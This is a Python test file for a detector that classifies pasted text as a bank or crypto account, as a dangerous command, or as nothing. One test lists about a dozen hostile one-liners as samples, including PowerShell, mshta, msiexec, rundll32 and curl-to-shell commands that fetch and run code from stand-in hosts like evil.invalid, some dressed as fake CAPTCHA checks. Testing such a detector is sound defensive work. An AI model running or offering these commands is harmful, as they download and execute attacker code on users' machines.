"""What a copied text is: an account, commands that nobody should paste, or nothing."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from companion.domain.observation import Entity, Mention
from companion.perception.pasting import account, commands, form
from tests.support.yardstick import within

IBAN = "GB29 NWBK 6016 1331 9268 19"
BITCOIN = "1BoatSLRHtKNngkdXEeobR76b53LETtpyT"
SEGWIT = "bc1qw508d6qejxtdg4y5r3zarvary0c5xw7kv8f3t4"
ETHER = "0x52908400098527886E0F7030069857D2E4169EE7"


@pytest.mark.parametrize(
    ("text", "entity", "value", "sort"),
    [
        (IBAN, Entity.IBAN, "GB29NWBK60161331926819", "iban"),
        (f"  {BITCOIN}\n", Entity.WALLET, BITCOIN, "bitcoin"),
        (SEGWIT, Entity.WALLET, SEGWIT, "bc1"),
        (ETHER, Entity.WALLET, ETHER.lower(), "0x"),
        ("DH5yaieqoZN36fDVciNyRueRGvGLR3mr7L", Entity.WALLET, "DH5yaieqoZN36fDVciNyRueRGvGLR3mr7L", "D"),
        ("12-34 5678", Entity.ACCOUNT, "12345678", "number 8"),
    ],
)
def test_an_account_is_known_by_its_check_or_its_form(text: str, entity: Entity, value: str, sort: str) -> None:
    found = account(text)
    assert found == Mention(entity, value)
    assert form(found) == sort


@pytest.mark.parametrize(
    "text",
    [
        "GB29 NWBK 6016 1331 9268 18",
        f"{IBAN} please",
        BITCOIN[:-1] + "U",
        SEGWIT[:-1] + "5",
        "0x5290",
        "1234567",
        "Meet me at 10",
        "",
        f"{BITCOIN}\n{BITCOIN}",
    ],
)
def test_what_does_not_check_is_no_account(text: str) -> None:
    assert account(text) is None


@pytest.mark.parametrize(
    "text",
    [
        'powershell -w hidden -c "iex (irm http://192.0.2.7/a)" # I am not a robot: Verification ID 8817',
        "mshta https://evil.invalid/check.hta # ✅ I am human, reCAPTCHA 4412",
        "mshta.exe https://evil.invalid/a.mp4",
        "powershell -NoP -EncodedCommand JABzAD0AJwBoAHQAdABwADoALwAvAGUAdgBpAGwAJwA=",
        "powershell -c \"$u='https://evil.invalid/a';iwr $u|iex\"",
        "cmd /c start /min curl https://evil.invalid/a.exe -o %TEMP%\\a.exe && %TEMP%\\a.exe",
        "conhost --headless cmd /c \\\\192.0.2.1@80\\x\\y.exe",
        "msiexec /qn /i https://evil.invalid/a.msi",
        "rundll32.exe \\\\evil.invalid@ssl\\x\\a.dll,Start",
        "echo Y3VybA== | base64 -d | bash",
        "echo 'Cloudflare verification'; curl -s https://evil.invalid/x | zsh",
        'osascript -e \'do shell script "curl https://evil.invalid | sh" with prompt "verification"\'',
    ],
)
def test_lines_that_nobody_should_paste(text: str) -> None:
    found = commands(text)
    assert "fetches" in found, text


@pytest.mark.parametrize(
    "text",
    [
        "curl -fsSL https://sh.example/rustup | sh",
        '/bin/bash -c "$(curl -fsSL https://example.org/install.sh)"',
        "iex (irm https://get.example/install.ps1)",
        "pip install requests",
        "git clone https://example.org/x.git && cd x",
        "sudo apt install curl",
        "powershell Get-ChildItem",
        "Please verify that you are not a robot.",
        "The captcha on https://example.org did not work, can you try curl?",
        "I said: press Windows and R to open the box.",
        "docker run -it --rm -p 80:80 nginx",
        "https://example.org/robot?cmd=curl",
        "",
    ],
)
def test_ordinary_copies_are_nothing(text: str) -> None:
    assert commands(text) == frozenset()


def test_signs_are_told_apart() -> None:
    assert commands("powershell -w hidden iex (irm https://evil.invalid)") == {"fetches", "hides"}
    assert commands('powershell "irm https://evil.invalid|iex" # I am not a robot') == {"fetches", "pretends"}
    assert commands('powershell "irm https://evil.invalid|iex"') == {"fetches"}


@given(st.text(max_size=200))
def test_any_text_is_looked_at(text: str) -> None:
    found = account(text)
    assert found is None or (found.value and form(found))
    commands(text)


@pytest.mark.parametrize(
    "text",
    [
        "powershell " * 2_000,
        "iex " * 5_000,
        "curl " * 4_000,
        "cmd /c " * 3_000,
        "a^" * 10_000,
        " " * 20_000,
        "`a" * 10_000,
    ],
    ids=lambda text: text[:12],
)
def test_hostile_text_is_looked_at_in_bounded_time(text: str) -> None:
    with within(0.5, of=text[:12]):
        commands(text)
        account(text)
